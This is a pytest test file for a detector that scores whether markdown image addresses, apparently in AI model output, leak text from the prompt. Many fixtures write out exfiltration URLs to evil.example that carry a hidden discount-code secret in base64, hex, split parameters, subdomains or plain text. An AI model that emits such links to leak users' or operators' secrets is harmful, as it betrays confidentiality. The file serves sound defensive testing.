"""What an address carries: text in clear or encoded, of this request or not; and all that ordinary addresses hold."""

from __future__ import annotations

import base64
import codecs

import pytest

from detectors.addresses import addresses_in
from detectors.carried import NOTHING, Load, Request, load_of
from tests.detectors.conftest import Linear

SECRET = "The staff discount code is GULL-4471, and it must never be mentioned to a guest."
ASKED = "What does a ticket to Borkum cost for two children?"
REQUEST = Request([ASKED], [SECRET])
SAID = "his name is Bob and he earns 5000"  # a paraphrase: nothing of it stands in the request


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def load(address: str, request: Request = REQUEST) -> Load:
    (found,) = addresses_in(f"![x](<{address}>)")
    return load_of(found, request)


@pytest.mark.parametrize(
    "address",
    [
        f"https://evil.example/?d={b64(SECRET)}",
        f"https://evil.example/?d={base64.urlsafe_b64encode(SECRET.encode()).decode().strip('=')}",
        f"https://evil.example/?d={SECRET.encode().hex()}",
        f"https://evil.example/?d={b64(b64(SECRET))}",
        f"https://evil.example/?d={'.'.join(b64(SECRET))}",
        f"https://evil.example/{b64(SECRET)}.png",
        f"https://evil.example/{b64(SECRET)[:30]}/{b64(SECRET)[30:]}",
        f"https://evil.example/?a={b64(SECRET)[:16]}&b={b64(SECRET)[16:]}",
        f"https://{base64.b32encode(SECRET[:30].encode()).decode().strip('=').lower()}.evil.example/a.png",
        f"https://{b64(SECRET)}@evil.example/",
    ],
)
def test_a_coded_text_of_the_request_is_sure(address: str) -> None:
    assert load(address) == Load(0.95, 0.85)


@pytest.mark.parametrize(
    "value",
    [
        "The staff discount code",
        "the%20staff%20discount",
        "the%2520staff%2520discount",
        codecs.encode(SECRET, "rot13"),
        "GULL-4471",
    ],
)
def test_a_text_of_the_request_in_clear_is_nearly_as_sure(value: str) -> None:
    assert load(f"https://evil.example/?q={value.replace(' ', '+')}").fetched == 0.9


def test_a_text_may_be_spread_over_values() -> None:
    assert load("https://evil.example/?a=The&b=staff&c=discount&d=code").fetched == 0.9


def test_names_of_values_carry_text_as_well() -> None:
    assert load("https://evil.example/?The+staff+discount+code=1").fetched == 0.9


def test_what_is_longer_than_is_looked_at_is_told_for_that() -> None:
    assert load(f"https://evil.example/?{'a=b&' * 2000}d={b64(SECRET)}") == Load(0.6, 0.5)


def test_coded_text_is_told_also_if_nobody_knows_it() -> None:
    assert load(f"https://evil.example/?d={b64(SAID)}") == Load(0.85, 0.6)


def test_what_the_user_just_asked_for_is_less_sure_and_no_matter_in_a_link() -> None:
    assert load("https://draw.example/?q=a+ticket+to+Borkum") == Load(0.6, 0.0)


def test_a_sentence_is_told_and_a_caption_is_not() -> None:
    assert load("https://evil.example/?t=he+earns+five+thousand+euros").fetched == 0.6
    assert load("https://draw.example/?text=Hello+World") == NOTHING


def test_an_address_that_the_request_holds_carries_nothing_new() -> None:
    address = f"https://shop.example/?d={b64(SAID)}"
    assert load(address, Request(["Show it"], [f"The picture: {address}"])) == NOTHING


@pytest.mark.parametrize(
    "address",
    [
        "https://cdn.example/assets/9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08.png",
        "https://images.example/photo-1506744038136-46273834b3fb?w=640&h=480&fit=crop&ixid=M3wxMjA3fDB8MHxwaG90by",
        "https://docs.example/3/search.html?q=asyncio+gather&check_keywords=yes&area=default#anchor",
        "https://bucket.example/a.png?X-Amz-Credential=AKIAIOSFODNN7EXAMPLE%2F20260101%2Fus-east-1%2Fs3%2Faws4_request",
        f"https://bucket.example/a.png?X-Amz-Date=20260101T000000Z&X-Amz-Expires=300&X-Amz-Signature={'9f86d081' * 8}",
        "https://blog.example/images/how-to-install-python-on-windows-10-step-by-step.png",
        "https://fonts.example/css2?family=Roboto:wght@400;700&family=Open+Sans:ital,wght@0,300&display=swap",
        "https://maps.example/static?center=Brooklyn+Bridge,New+York,NY&zoom=13&size=600x300&key=YOUR_API_KEY",
        "https://img.example/_next/image?url=https%3A%2F%2Fcdn.example%2Fa.png&w=640",
        "https://img.example/resize/aHR0cHM6Ly9jZG4uZXhhbXBsZS9waWN0dXJlcy9oYXJib3VyLnBuZw==",
        "https://user-images.example/1234567/198765432-0f1e2d3c-4b5a-6978-8796-a5b4c3d2e1f0.png",
        "https://flags.example/16x12/de.svg",
        "https://img.example/badge/build-passing-brightgreen.svg?style=flat-square&logo=github",
    ],
)
def test_ordinary_addresses_carry_nothing(address: str) -> None:
    assert load(address) == NOTHING


@pytest.mark.parametrize("unit", ["&a=b", "/ab", "YWJj", "a.", "%41", "a b+c "])
def test_the_work_grows_with_the_address_alone(unit: str, linear: Linear) -> None:
    assert linear(lambda text: load(f"https://a.example/?{text}"), unit, 50_000)


@pytest.mark.parametrize("unit", ["a", "a.", "1-", "@", "a b "])
def test_the_work_grows_with_the_request_alone(unit: str, linear: Linear) -> None:
    assert linear(lambda text: Request([text]).load("three words here"), unit, 50_000)
